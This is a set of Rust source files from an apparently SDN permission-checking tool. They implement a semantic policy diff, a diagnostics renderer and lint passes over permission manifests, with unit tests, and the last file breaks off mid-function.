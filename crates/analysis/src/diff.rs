//! Semantic market diff: which (app, token, witness-call) decisions flip
//! between two site policies (DESIGN.md §14).
//!
//! `shieldcheck diff <old.pol> <new.pol>` reconciles every manifest under
//! both policies and compares the resulting grants token by token with the
//! exact SAT core — textual policy differences that change no decision
//! produce no entries, and semantically different policies are pinned to a
//! concrete witness (a behavior class newly allowed or newly denied). This
//! is the hot-reload pre-flight gate: ROADMAP item 3's live policy swap can
//! refuse (or require confirmation for) any reload whose diff is nonempty.

use sdnshield_core::lang::parse_manifest;
use sdnshield_core::policy::parse_policy;
use sdnshield_core::reconcile::Reconciler;
use sdnshield_core::sat;
use sdnshield_core::{FilterExpr, PermissionSet, PermissionToken};

use crate::diag::{json_string, Diagnostic, Severity};

/// How an (app, token) decision changed between the two policies.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ChangeKind {
    /// No effective grant before, some behavior allowed now.
    Granted,
    /// Some behavior allowed before, no effective grant now.
    Revoked,
    /// Strictly fewer behaviors allowed now.
    Narrowed,
    /// Strictly more behaviors allowed now.
    Widened,
    /// Incomparable: some behaviors gained, others lost.
    Reshaped,
}

impl ChangeKind {
    /// Stable lower-case name used in JSON and messages.
    pub fn name(self) -> &'static str {
        match self {
            ChangeKind::Granted => "granted",
            ChangeKind::Revoked => "revoked",
            ChangeKind::Narrowed => "narrowed",
            ChangeKind::Widened => "widened",
            ChangeKind::Reshaped => "reshaped",
        }
    }
}

/// One decision flip.
#[derive(Debug, Clone, PartialEq)]
pub struct DiffEntry {
    /// The affected app.
    pub app: String,
    /// The affected token.
    pub token: PermissionToken,
    /// The direction of the change.
    pub change: ChangeKind,
    /// A behavior class allowed under the new policy but not the old
    /// (SAT model description), when one exists.
    pub newly_allowed: Option<String>,
    /// A behavior class allowed under the old policy but not the new.
    pub newly_denied: Option<String>,
}

/// The full semantic diff.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct DiffReport {
    /// Apps compared, in submission order.
    pub apps: Vec<String>,
    /// Every (app, token) decision flip.
    pub entries: Vec<DiffEntry>,
    /// Input failures (parse or reconcile errors) that made parts of the
    /// diff impossible; error severity.
    pub errors: Vec<Diagnostic>,
}

impl DiffReport {
    /// Renders the report as diagnostics: every input failure, then one
    /// SH015 warning per flip.
    pub fn diagnostics(&self) -> Vec<Diagnostic> {
        let mut out = self.errors.clone();
        for e in &self.entries {
            let mut d = Diagnostic::new(
                "SH015",
                Severity::Warning,
                format!(
                    "app `{}`: `{}` authority is {} by the new policy",
                    e.app,
                    e.token.name(),
                    e.change.name()
                ),
                sdnshield_core::lang::SpannedExpr::DUMMY_SPAN,
            );
            if let Some(w) = &e.newly_allowed {
                d = d.with_note(format!("newly allowed: {w}"));
            }
            if let Some(w) = &e.newly_denied {
                d = d.with_note(format!("newly denied: {w}"));
            }
            out.push(d);
        }
        out
    }

    /// Is the diff clean (no flips, no input failures)?
    pub fn is_clean(&self) -> bool {
        self.entries.is_empty() && self.errors.is_empty()
    }

    /// Stable JSON object: `{"schema_version":…,"mode":"diff","apps":[…],
    /// "flips":[{"app","token","change","newly_allowed","newly_denied"}],
    /// "errors":[<diagnostic>…]}`.
    pub fn render_json(&self) -> String {
        let flips: Vec<String> = self
            .entries
            .iter()
            .map(|e| {
                let opt = |v: &Option<String>| match v {
                    Some(s) => json_string(s),
                    None => "null".to_owned(),
                };
                format!(
                    "{{\"app\":{},\"token\":{},\"change\":{},\"newly_allowed\":{},\"newly_denied\":{}}}",
                    json_string(&e.app),
                    json_string(e.token.name()),
                    json_string(e.change.name()),
                    opt(&e.newly_allowed),
                    opt(&e.newly_denied),
                )
            })
            .collect();
        let errors: Vec<String> = self.errors.iter().map(|d| d.render_json("diff")).collect();
        format!(
            "{{\"schema_version\":{},\"mode\":\"diff\",\"apps\":[{}],\"flips\":[{}],\"errors\":[{}]}}",
            crate::diag::SCHEMA_VERSION,
            self.apps
                .iter()
                .map(|a| json_string(a))
                .collect::<Vec<_>>()
                .join(","),
            flips.join(","),
            errors.join(","),
        )
    }
}

/// Reconciles every app under one policy. Returns `None` entries for apps
/// whose reconciliation failed (the caller records the error once).
fn reconcile_all(
    policy_src: &str,
    policy_label: &str,
    manifests: &[(String, PermissionSet)],
    errors: &mut Vec<Diagnostic>,
) -> Option<Vec<Option<PermissionSet>>> {
    let policy = match parse_policy(policy_src) {
        Ok(p) => p,
        Err(e) => {
            errors.push(Diagnostic::new(
                "SH000",
                Severity::Error,
                format!("{policy_label}: syntax error: {}", e.message),
                e.span(),
            ));
            return None;
        }
    };
    let mut rec = Reconciler::new(policy);
    for (name, set) in manifests {
        rec.register_app(name.clone(), set.clone());
    }
    Some(
        manifests
            .iter()
            .map(|(name, _)| match rec.reconcile(name) {
                Ok(rep) => Some(rep.reconciled),
                Err(e) => {
                    errors.push(
                        Diagnostic::new(
                            "SH015",
                            Severity::Error,
                            format!("app `{name}` cannot be reconciled under {policy_label}: {e}"),
                            sdnshield_core::lang::SpannedExpr::DUMMY_SPAN,
                        )
                        .with_note("fix the policy (shieldcheck --market) before diffing"),
                    );
                    None
                }
            })
            .collect(),
    )
}

/// An (app, token) grant is *effective* only if its filter admits some
/// behavior; a granted-but-unsatisfiable filter decides exactly like an
/// absent grant, so the diff treats them identically.
fn effective(set: &PermissionSet, token: PermissionToken) -> Option<&FilterExpr> {
    set.filter(token).filter(|f| sat::satisfiable(f))
}

/// Computes the semantic diff of a market between two site policies.
/// `manifests` pairs each app name with its manifest source.
pub fn diff_market(manifests: &[(&str, &str)], old_policy: &str, new_policy: &str) -> DiffReport {
    let mut report = DiffReport::default();
    let mut parsed: Vec<(String, PermissionSet)> = Vec::new();
    for (name, src) in manifests {
        match parse_manifest(src) {
            Ok(set) => {
                report.apps.push((*name).to_owned());
                parsed.push(((*name).to_owned(), set));
            }
            Err(e) => {
                report.errors.push(Diagnostic::new(
                    "SH000",
                    Severity::Error,
                    format!("{name}: syntax error: {}", e.message),
                    e.span(),
                ));
            }
        }
    }
    let old = reconcile_all(old_policy, "the old policy", &parsed, &mut report.errors);
    let new = reconcile_all(new_policy, "the new policy", &parsed, &mut report.errors);
    let (Some(old), Some(new)) = (old, new) else {
        return report;
    };

    for (i, (name, _)) in parsed.iter().enumerate() {
        let (Some(old_set), Some(new_set)) = (&old[i], &new[i]) else {
            continue;
        };
        let mut tokens: Vec<PermissionToken> = old_set.tokens().collect();
        for t in new_set.tokens() {
            if !tokens.contains(&t) {
                tokens.push(t);
            }
        }
        tokens.sort();
        for token in tokens {
            let of = effective(old_set, token);
            let nf = effective(new_set, token);
            let describe = |m: Option<sat::Model>| m.as_ref().map(sat::describe_model);
            let entry = match (of, nf) {
                (None, None) => continue,
                (None, Some(nf)) => DiffEntry {
                    app: name.clone(),
                    token,
                    change: ChangeKind::Granted,
                    newly_allowed: describe(sat::witness(nf)),
                    newly_denied: None,
                },
                (Some(of), None) => DiffEntry {
                    app: name.clone(),
                    token,
                    change: ChangeKind::Revoked,
                    newly_allowed: None,
                    newly_denied: describe(sat::witness(of)),
                },
                (Some(of), Some(nf)) => {
                    // Witness the asymmetric directions; equivalence = both
                    // directions hold = both counterexamples absent.
                    let gained = sat::counterexample(nf, of);
                    let lost = sat::counterexample(of, nf);
                    let change = match (&gained, &lost) {
                        (None, None) => continue,
                        (Some(_), None) => ChangeKind::Widened,
                        (None, Some(_)) => ChangeKind::Narrowed,
                        (Some(_), Some(_)) => ChangeKind::Reshaped,
                    };
                    DiffEntry {
                        app: name.clone(),
                        token,
                        change,
                        newly_allowed: describe(gained),
                        newly_denied: describe(lost),
                    }
                }
            };
            report.entries.push(entry);
        }
    }
    report
}

#[cfg(test)]
mod tests {
    use super::*;

    const MANIFEST: &str = "PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK 255.255.0.0\n\
                            PERM read_statistics";

    #[test]
    fn identical_policies_diff_clean() {
        let pol = "ASSERT APP app <= { PERM insert_flow PERM read_statistics }";
        let r = diff_market(&[("fwd", MANIFEST)], pol, pol);
        assert!(r.is_clean(), "{:?}", r.entries);
    }

    #[test]
    fn narrowing_policy_produces_a_witnessed_flip() {
        let old = "ASSERT APP app <= { PERM insert_flow PERM read_statistics }";
        let new = "ASSERT APP app <= { PERM insert_flow LIMITING MAX_PRIORITY 100 \
                   PERM read_statistics }";
        let r = diff_market(&[("fwd", MANIFEST)], old, new);
        assert_eq!(r.entries.len(), 1, "{:?}", r.entries);
        let e = &r.entries[0];
        assert_eq!(e.token, PermissionToken::InsertFlow);
        assert_eq!(e.change, ChangeKind::Narrowed);
        let w = e.newly_denied.as_deref().expect("lost-behavior witness");
        assert!(w.contains("MAX_PRIORITY"), "witness: {w}");
        let diags = r.diagnostics();
        assert_eq!(diags.len(), 1);
        assert_eq!(diags[0].code, "SH015");
    }

    #[test]
    fn revocation_is_reported() {
        let old = "ASSERT APP app <= { PERM insert_flow PERM read_statistics }";
        let new = "ASSERT APP app <= { PERM read_statistics }";
        let r = diff_market(&[("fwd", MANIFEST)], old, new);
        assert_eq!(r.entries.len(), 1);
        assert_eq!(r.entries[0].change, ChangeKind::Revoked);
    }

    #[test]
    fn bad_policy_is_an_error_not_a_panic() {
        let r = diff_market(&[("fwd", MANIFEST)], "ASSERT bogus ???", "ASSERT bogus ???");
        assert!(!r.errors.is_empty());
        assert!(r.entries.is_empty());
    }

    #[test]
    fn json_shape_is_stable() {
        let old = "ASSERT APP app <= { PERM insert_flow PERM read_statistics }";
        let new = "ASSERT APP app <= { PERM read_statistics }";
        let r = diff_market(&[("fwd", MANIFEST)], old, new);
        let js = r.render_json();
        assert!(js.starts_with("{\"schema_version\":"));
        assert!(js.contains("\"mode\":\"diff\""));
        assert!(js.contains("\"change\":\"revoked\""));
    }
}
