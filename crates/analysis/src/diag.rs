//! The diagnostics engine: structured findings with source spans, rendered
//! either as caret-underlined terminal text or as JSON.

use std::fmt;

use sdnshield_core::Span;

/// Version of every JSON shape shieldcheck emits (diagnostic objects, diff
/// and certify reports). Bumped on any breaking change to field names or
/// semantics; the unversioned pre-v2 diagnostic shape is retroactively v1.
pub const SCHEMA_VERSION: u32 = 2;

/// How serious a finding is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Severity {
    /// Suspicious but not necessarily wrong; accepted by default.
    Warning,
    /// A defect: the artifact is rejected by gating consumers (CI, the
    /// kernel's pre-registration check).
    Error,
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Severity::Warning => "warning",
            Severity::Error => "error",
        })
    }
}

/// One finding produced by the analyzer.
#[derive(Debug, Clone, PartialEq)]
pub struct Diagnostic {
    /// Stable registry code (`SH0xx`, see DESIGN.md).
    pub code: &'static str,
    /// Severity.
    pub severity: Severity,
    /// Human-readable statement of the problem.
    pub message: String,
    /// Where in the source the problem is, when known. `None` for findings
    /// over span-less inputs (e.g. an already-parsed `PermissionSet` handed
    /// to the kernel).
    pub span: Option<Span>,
    /// Supplementary context lines.
    pub notes: Vec<String>,
}

impl Diagnostic {
    /// Builds a finding at a span; a zero span (line 0) from a span-less
    /// tree is normalized to `None`.
    pub fn new(
        code: &'static str,
        severity: Severity,
        message: impl Into<String>,
        span: Span,
    ) -> Self {
        Diagnostic {
            code,
            severity,
            message: message.into(),
            span: if span.line == 0 { None } else { Some(span) },
            notes: Vec::new(),
        }
    }

    /// Appends a note.
    pub fn with_note(mut self, note: impl Into<String>) -> Self {
        self.notes.push(note.into());
        self
    }

    /// Renders `rustc`-style text with a caret underline pointing at the
    /// span within `src` (the artifact's source text). `origin` names the
    /// artifact (file path or app name) in the `-->` line.
    pub fn render_text(&self, src: &str, origin: &str) -> String {
        let mut out = format!("{}[{}]: {}\n", self.severity, self.code, self.message);
        if let Some(span) = self.span {
            out.push_str(&format!("  --> {origin}:{}:{}\n", span.line, span.col));
            if let Some(line_text) = src.lines().nth(span.line as usize - 1) {
                let gutter = span.line.to_string();
                let pad = " ".repeat(gutter.len());
                out.push_str(&format!("{pad} |\n"));
                out.push_str(&format!("{gutter} | {line_text}\n"));
                // The lexer counts characters, so underline by char index
                // (clamped to the line in case the span is stale).
                let indent = line_text.chars().take(span.col as usize - 1).count();
                let carets = "^".repeat(span.len.max(1) as usize);
                out.push_str(&format!("{pad} | {}{carets}\n", " ".repeat(indent)));
            }
        } else {
            out.push_str(&format!("  --> {origin}\n"));
        }
        for note in &self.notes {
            out.push_str(&format!("  = note: {note}\n"));
        }
        out
    }

    /// Renders one JSON object (no trailing newline). The shape is stable
    /// and versioned: `{"schema_version","code","severity","message",
    /// "origin","line","col","len","notes"}`, with `line`/`col`/`len` null
    /// when the finding has no span.
    pub fn render_json(&self, origin: &str) -> String {
        let (line, col, len) = match self.span {
            Some(s) => (s.line.to_string(), s.col.to_string(), s.len.to_string()),
            None => ("null".into(), "null".into(), "null".into()),
        };
        let notes = self
            .notes
            .iter()
            .map(|n| json_string(n))
            .collect::<Vec<_>>()
            .join(",");
        format!(
            "{{\"schema_version\":{SCHEMA_VERSION},\"code\":{},\"severity\":{},\"message\":{},\"origin\":{},\"line\":{line},\"col\":{col},\"len\":{len},\"notes\":[{notes}]}}",
            json_string(self.code),
            json_string(&self.severity.to_string()),
            json_string(&self.message),
            json_string(origin),
        )
    }
}

/// Escapes a string as a JSON string literal.
pub(crate) fn json_string(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_rendering_points_at_span() {
        let d = Diagnostic::new(
            "SH001",
            Severity::Error,
            "conjunction is unsatisfiable",
            Span::new(2, 27, 6),
        )
        .with_note("both conjuncts constrain IP_DST to disjoint subnets");
        let src =
            "PERM read_statistics\nPERM insert_flow LIMITING IP_DST 10.0.0.1 AND IP_DST 10.0.0.2";
        let text = d.render_text(src, "m.perm");
        assert!(text.contains("error[SH001]"), "{text}");
        assert!(text.contains("--> m.perm:2:27"), "{text}");
        assert!(text.contains("^^^^^^"), "{text}");
        assert!(text.contains("= note:"), "{text}");
    }

    #[test]
    fn json_rendering_escapes() {
        let d = Diagnostic::new(
            "SH005",
            Severity::Warning,
            "binding `x\"y` is never used",
            Span::new(1, 5, 1),
        );
        let json = d.render_json("p.pol");
        assert!(
            json.starts_with(&format!("{{\"schema_version\":{SCHEMA_VERSION},")),
            "{json}"
        );
        assert!(json.contains("\"code\":\"SH005\""), "{json}");
        assert!(json.contains("\\\"y"), "{json}");
        assert!(json.contains("\"line\":1"), "{json}");
    }

    #[test]
    fn spanless_renders_null_span() {
        let d = Diagnostic::new(
            "SH004",
            Severity::Warning,
            "broad grant",
            Span::new(0, 0, 0),
        );
        assert_eq!(d.span, None);
        assert!(d.render_json("app:7").contains("\"line\":null"));
        assert!(d.render_text("", "app:7").contains("--> app:7\n"));
    }
}
