//! Semantic lint passes over parsed manifests and policies.
//!
//! The passes use two tiers of reasoning. The Algorithm-1 CNF/DNF machinery
//! from `sdnshield_core::algebra` provides fast pairwise subsumption and
//! disjointness pre-checks with precise two-span diagnostics. Where pairwise
//! reasoning is incomplete — joint unsatisfiability needing three conjuncts,
//! a branch covered only by the *union* of its siblings, name-shared tokens
//! whose conjoined filters admit nothing — the exact SAT core
//! (`sdnshield_core::sat`, DESIGN.md §14) decides the general case, so
//! SH001/SH002/SH008 verdicts are exact under the theory axioms. Verdicts
//! remain *sound*: every reported finding is provable.

use std::collections::{BTreeMap, BTreeSet};

use sdnshield_core::algebra::{self, to_dnf, Literal};
use sdnshield_core::filter::{FilterExpr, SingletonFilter};
use sdnshield_core::lang::{SpannedExpr, SpannedManifest};
use sdnshield_core::policy::{
    CmpOp, SpannedAssertion, SpannedPermSetExpr, SpannedPolicy, SpannedStmtKind,
};
use sdnshield_core::reconcile::{Reconciler, CURRENT_APP};
use sdnshield_core::sat;
use sdnshield_core::token::ActionClass;
use sdnshield_core::{PermissionSet, PermissionToken, Span};

use crate::diag::{Diagnostic, Severity};

/// Variable-resolution depth cap (policies are tiny; this only guards
/// against pathological self-referential chains).
const MAX_RESOLVE_DEPTH: u32 = 8;

/// Lints a parsed manifest: duplicate grants, overly-broad sensitive grants,
/// unsatisfiable conjunctions, shadowed OR branches.
pub fn lint_manifest(m: &SpannedManifest) -> Vec<Diagnostic> {
    let mut out = Vec::new();
    let mut first_seen: BTreeMap<PermissionToken, Span> = BTreeMap::new();
    for p in &m.perms {
        if let Some(prev) = first_seen.get(&p.token) {
            out.push(
                Diagnostic::new(
                    "SH003",
                    Severity::Warning,
                    format!(
                        "permission `{}` is declared more than once; the filters are OR-joined",
                        p.token.name()
                    ),
                    p.name_span,
                )
                .with_note(locate("first declaration", *prev)),
            );
        } else {
            first_seen.insert(p.token, p.name_span);
        }
        let unrestricted = match &p.filter {
            None => true,
            Some(f) => matches!(f.to_expr(), FilterExpr::True),
        };
        if unrestricted && p.token.action() == ActionClass::Write {
            out.push(
                Diagnostic::new(
                    "SH004",
                    Severity::Warning,
                    format!(
                        "sensitive permission `{}` is granted without a narrowing filter",
                        p.token.name()
                    ),
                    p.name_span,
                )
                .with_note(
                    "write-class tokens should be scoped with LIMITING \
                     (e.g. OWN_FLOWS, a subnet predicate, or a priority bound)",
                ),
            );
        }
        if let Some(f) = &p.filter {
            lint_filter(f, &mut out);
        }
    }
    out
}

/// Lints one filter expression tree (recursive).
pub fn lint_filter(e: &SpannedExpr, out: &mut Vec<Diagnostic>) {
    match e {
        SpannedExpr::And(parts) => {
            let lowered: Vec<FilterExpr> = parts.iter().map(SpannedExpr::to_expr).collect();
            let mut pairwise_hit = false;
            for i in 0..parts.len() {
                for j in (i + 1)..parts.len() {
                    if provably_disjoint(&lowered[i], &lowered[j]) {
                        pairwise_hit = true;
                        out.push(
                            Diagnostic::new(
                                "SH001",
                                Severity::Error,
                                "conjunction is unsatisfiable: \
                                 these conjuncts are provably disjoint",
                                parts[j].span(),
                            )
                            .with_note(locate("conflicts with the conjunct", parts[i].span()))
                            .with_note(
                                "no API call can ever satisfy this filter; did you mean OR?",
                            ),
                        );
                    }
                }
            }
            // The pairwise pass above is a fast pre-check with precise
            // two-span diagnostics. The SAT core decides the general case
            // exactly: conflicts that need three or more conjuncts (a
            // prefix split, a priority-range exhaustion) have no provably
            // disjoint pair and only surface here.
            if !pairwise_hit && !sat::satisfiable(&FilterExpr::And(lowered.clone())) {
                out.push(
                    Diagnostic::new(
                        "SH001",
                        Severity::Error,
                        "conjunction is unsatisfiable: \
                         no behavior satisfies all conjuncts together",
                        parts[0].span(),
                    )
                    .with_note(
                        "the conjuncts are pairwise satisfiable; the joint conflict \
                         is proved by the exact SAT check",
                    )
                    .with_note("no API call can ever satisfy this filter; did you mean OR?"),
                );
            }
            for p in parts {
                lint_filter(p, out);
            }
        }
        SpannedExpr::Or(parts) => {
            let lowered: Vec<FilterExpr> = parts.iter().map(SpannedExpr::to_expr).collect();
            let mut flagged = vec![false; parts.len()];
            for i in 0..parts.len() {
                let shadowing = (0..parts.len()).find(|&j| {
                    j != i
                        && algebra::includes(&lowered[j], &lowered[i])
                        && (j < i || !algebra::includes(&lowered[i], &lowered[j]))
                });
                if let Some(j) = shadowing {
                    flagged[i] = true;
                    out.push(
                        Diagnostic::new(
                            "SH002",
                            Severity::Warning,
                            "this OR branch is redundant: a sibling branch already covers it",
                            parts[i].span(),
                        )
                        .with_note(locate("subsumed by the branch", parts[j].span())),
                    );
                }
            }
            // Exact pass: a branch can be redundant against the *union* of
            // its siblings with no single sibling subsuming it (two prefix
            // halves covering their parent). Greedy descending elimination
            // over the not-yet-flagged branches keeps at least one covering
            // branch and preserves the pairwise pass's later-duplicate
            // tie-break.
            for i in (0..parts.len()).rev() {
                if flagged[i] {
                    continue;
                }
                let rest: Vec<FilterExpr> = (0..parts.len())
                    .filter(|&j| j != i && !flagged[j])
                    .map(|j| lowered[j].clone())
                    .collect();
                if rest.is_empty() {
                    continue;
                }
                if sat::implies(&lowered[i], &FilterExpr::Or(rest)) {
                    flagged[i] = true;
                    out.push(
                        Diagnostic::new(
                            "SH002",
                            Severity::Warning,
                            "this OR branch is redundant: \
                             the union of its sibling branches already covers it",
                            parts[i].span(),
                        )
                        .with_note(
                            "no single sibling subsumes it; the cover is proved \
                             by the exact SAT check over the sibling union",
                        ),
                    );
                }
            }
            for p in parts {
                lint_filter(p, out);
            }
        }
        SpannedExpr::Not(inner, _) => lint_filter(inner, out),
        SpannedExpr::True(_) | SpannedExpr::Atom(_, _) => {}
    }
}

/// Provable unsatisfiability of `a AND b`: every DNF term of `a` conflicts
/// with every DNF term of `b`. Sound, not complete (`false` = unknown).
fn provably_disjoint(a: &FilterExpr, b: &FilterExpr) -> bool {
    let (Some(da), Some(db)) = (to_dnf(a), to_dnf(b)) else {
        return false;
    };
    // An empty DNF means the side is already false — vacuously disjoint.
    if da.is_empty() || db.is_empty() {
        return true;
    }
    da.iter()
        .all(|ta| db.iter().all(|tb| terms_conflict(ta, tb)))
}

fn terms_conflict(a: &[Literal], b: &[Literal]) -> bool {
    a.iter()
        .any(|la| b.iter().any(|lb| literals_conflict(la, lb)))
}

fn literals_conflict(a: &Literal, b: &Literal) -> bool {
    match (a.negated, b.negated) {
        (false, false) => a.filter.disjoint_with(&b.filter),
        // x ∧ ¬y is unsatisfiable when y ⊇ x.
        (false, true) => b.filter.includes(&a.filter),
        (true, false) => a.filter.includes(&b.filter),
        (true, true) => false,
    }
}

/// Per-app market context: the parsed manifests the policy governs.
pub struct MarketManifest<'a> {
    /// The app's name (how `APP name` refers to it).
    pub name: &'a str,
    /// Its spanned manifest.
    pub manifest: &'a SpannedManifest,
}

/// Lints a parsed policy in isolation (no manifests available).
pub fn lint_policy(p: &SpannedPolicy) -> Vec<Diagnostic> {
    lint_policy_with(p, None)
}

/// Lints a policy, optionally against the manifests of a whole app market.
/// With manifests present, `APP` references are checked against the market
/// (SH009) and filter-macro bindings are matched against manifest stubs
/// (SH005 for orphaned macros; the manifest-side SH011 is emitted by
/// [`stub_lints`]).
pub fn lint_policy_with(
    p: &SpannedPolicy,
    market: Option<&[MarketManifest<'_>]>,
) -> Vec<Diagnostic> {
    let mut out = Vec::new();

    // Binding tables. Later bindings shadow earlier ones for resolution;
    // usage is tracked by name.
    let mut perm_set_binds: BTreeMap<&str, &SpannedPermSetExpr> = BTreeMap::new();
    let mut perm_set_decls: Vec<(&str, Span)> = Vec::new();
    let mut filter_decls: Vec<(&str, Span)> = Vec::new();
    for stmt in &p.stmts {
        match &stmt.kind {
            SpannedStmtKind::LetPermSet {
                name,
                name_span,
                value,
            } => {
                perm_set_binds.insert(name.as_str(), value);
                perm_set_decls.push((name.as_str(), *name_span));
            }
            SpannedStmtKind::LetFilter {
                name, name_span, ..
            } => {
                filter_decls.push((name.as_str(), *name_span));
            }
            SpannedStmtKind::Assert(_) => {}
        }
    }

    // Walk every perm-set expression: undefined references + usage marks.
    let mut used: BTreeSet<&str> = BTreeSet::new();
    let visit_expr = |e: &'_ SpannedPermSetExpr, out: &mut Vec<Diagnostic>| {
        walk_perm_set_expr(e, &mut |node| match node {
            SpannedPermSetExpr::Var(name, span) if !perm_set_binds.contains_key(name.as_str()) => {
                out.push(
                    Diagnostic::new(
                        "SH006",
                        Severity::Error,
                        format!("variable `{name}` is not bound by any LET statement"),
                        *span,
                    )
                    .with_note("reconciliation aborts with an unbound-variable error here"),
                );
            }
            SpannedPermSetExpr::App(name, span) => {
                if let Some(apps) = market {
                    if name != CURRENT_APP && !apps.iter().any(|a| a.name == name) {
                        out.push(
                            Diagnostic::new(
                                "SH009",
                                Severity::Error,
                                format!("`APP {name}` does not match any submitted manifest"),
                                *span,
                            )
                            .with_note(format!(
                                "known apps: {} (and the reserved name `{CURRENT_APP}`)",
                                known_apps(apps)
                            )),
                        );
                    }
                }
            }
            _ => {}
        });
    };

    for stmt in &p.stmts {
        match &stmt.kind {
            SpannedStmtKind::LetPermSet { value, .. } => {
                mark_vars_used(value, &mut used);
                visit_expr(value, &mut out);
            }
            SpannedStmtKind::LetFilter { expr, .. } => {
                lint_filter(expr, &mut out);
            }
            SpannedStmtKind::Assert(a) => {
                walk_assertion_exprs(a, &mut |e| {
                    mark_vars_used(e, &mut used);
                });
                walk_assertion_exprs(a, &mut |e| visit_expr(e, &mut out));
                lint_assertion(a, stmt.span, &perm_set_binds, &mut out);
            }
        }
    }

    // SH005: unused bindings.
    for (name, span) in &perm_set_decls {
        if !used.contains(name) {
            out.push(
                Diagnostic::new(
                    "SH005",
                    Severity::Warning,
                    format!("LET binding `{name}` is never used"),
                    *span,
                )
                .with_note("it is referenced by no assertion or later binding"),
            );
        }
    }
    if let Some(apps) = market {
        let stubs: BTreeSet<String> = apps
            .iter()
            .flat_map(|a| a.manifest.to_set().stub_names())
            .collect();
        for (name, span) in &filter_decls {
            if !stubs.contains(*name) {
                out.push(
                    Diagnostic::new(
                        "SH005",
                        Severity::Warning,
                        format!(
                            "filter macro `{name}` completes no stub in any submitted manifest"
                        ),
                        *span,
                    )
                    .with_note(
                        "stub macros in manifests are matched to LET filter bindings by name",
                    ),
                );
            }
        }
    }

    out
}

/// Manifest-side market lint: SH011, stub macros the policy never completes.
/// Returns diagnostics positioned inside the given manifest.
pub fn stub_lints(m: &SpannedManifest, policy: &SpannedPolicy) -> Vec<Diagnostic> {
    let macros: BTreeSet<&str> = policy
        .stmts
        .iter()
        .filter_map(|s| match &s.kind {
            SpannedStmtKind::LetFilter { name, .. } => Some(name.as_str()),
            _ => None,
        })
        .collect();
    let mut out = Vec::new();
    for p in &m.perms {
        if let Some(f) = &p.filter {
            walk_spanned_expr(f, &mut |e| {
                if let SpannedExpr::Atom(SingletonFilter::Stub(name), span) = e {
                    if !macros.contains(name.as_str()) {
                        out.push(
                            Diagnostic::new(
                                "SH011",
                                Severity::Warning,
                                format!("stub macro `{name}` is not completed by the policy"),
                                *span,
                            )
                            .with_note(
                                "reconciliation treats an uncompleted stub as an \
                                 unsatisfied grant; add `LET <name> = { <filter> }`",
                            ),
                        );
                    }
                }
            });
        }
    }
    out
}

/// Assertion-level lints: vacuous/overlapping mutual exclusions (SH007,
/// SH008) and constant assertions (SH010).
fn lint_assertion(
    a: &SpannedAssertion,
    stmt_span: Span,
    binds: &BTreeMap<&str, &SpannedPermSetExpr>,
    out: &mut Vec<Diagnostic>,
) {
    if let SpannedAssertion::Either(lhs, rhs, _) = a {
        let l = resolve_set(lhs, binds, 0);
        let r = resolve_set(rhs, binds, 0);
        for (operand, set) in [(lhs, &l), (rhs, &r)] {
            if let Some(s) = set {
                if s.is_empty() {
                    out.push(
                        Diagnostic::new(
                            "SH007",
                            Severity::Warning,
                            "mutual-exclusion operand is an empty permission set; \
                             the assertion never excludes anything",
                            operand.span(),
                        )
                        .with_note("EITHER … OR … only bites when both operands are nonempty"),
                    );
                }
            }
        }
        if let (Some(l), Some(r)) = (&l, &r) {
            // Exact refinement: `meet` ANDs the two sides' filters per
            // token, so a token shared *by name* is a real overlap only
            // when the conjoined filter still admits some behavior.
            let shared = l.meet(r);
            let tokens: Vec<&str> = shared
                .iter()
                .filter(|(_, f)| sat::satisfiable(f))
                .map(|(t, _)| t.name())
                .collect();
            if !tokens.is_empty() && !l.is_empty() && !r.is_empty() {
                out.push(
                    Diagnostic::new(
                        "SH008",
                        Severity::Warning,
                        "mutual-exclusion operands overlap; \
                         any app granted the shared permissions violates the assertion",
                        stmt_span,
                    )
                    .with_note(format!("shared: {}", tokens.join(", "))),
                );
            }
        }
        return;
    }
    // Boolean assertions that reference no app are constant: they either
    // always hold or always fail, independent of what is being registered.
    if !assertion_refs_app(a, binds, 0) {
        let mut d = Diagnostic::new(
            "SH010",
            Severity::Warning,
            "assertion references no application; it is constant and can never trigger \
             on a registration",
            stmt_span,
        );
        if let Some(v) = eval_assertion(a, binds) {
            d = d.with_note(format!(
                "it is always {}",
                if v {
                    "true (a no-op)"
                } else {
                    "false (every registration is rejected)"
                }
            ));
        }
        out.push(d);
    }
}

/// Resolves a perm-set expression to a concrete set when possible
/// (literals, variables bound to resolvable expressions, MEET/JOIN of
/// resolvable operands). `APP` references are not resolvable statically.
fn resolve_set(
    e: &SpannedPermSetExpr,
    binds: &BTreeMap<&str, &SpannedPermSetExpr>,
    depth: u32,
) -> Option<PermissionSet> {
    if depth > MAX_RESOLVE_DEPTH {
        return None;
    }
    match e {
        SpannedPermSetExpr::Literal(perms, _) => {
            let mut set = PermissionSet::new();
            for p in perms {
                set.insert(p.to_permission());
            }
            Some(set)
        }
        SpannedPermSetExpr::Var(name, _) => binds
            .get(name.as_str())
            .and_then(|v| resolve_set(v, binds, depth + 1)),
        SpannedPermSetExpr::App(_, _) => None,
        SpannedPermSetExpr::Meet(a, b) => {
            Some(resolve_set(a, binds, depth + 1)?.meet(&resolve_set(b, binds, depth + 1)?))
        }
        SpannedPermSetExpr::Join(a, b) => {
            Some(resolve_set(a, binds, depth + 1)?.join(&resolve_set(b, binds, depth + 1)?))
        }
    }
}

/// Does the assertion (transitively through variable bindings) reference any
/// application manifest? Deep/cyclic chains conservatively answer `true`.
fn assertion_refs_app(
    a: &SpannedAssertion,
    binds: &BTreeMap<&str, &SpannedPermSetExpr>,
    depth: u32,
) -> bool {
    match a {
        // EITHER quantifies over every app implicitly; never constant.
        SpannedAssertion::Either(_, _, _) => true,
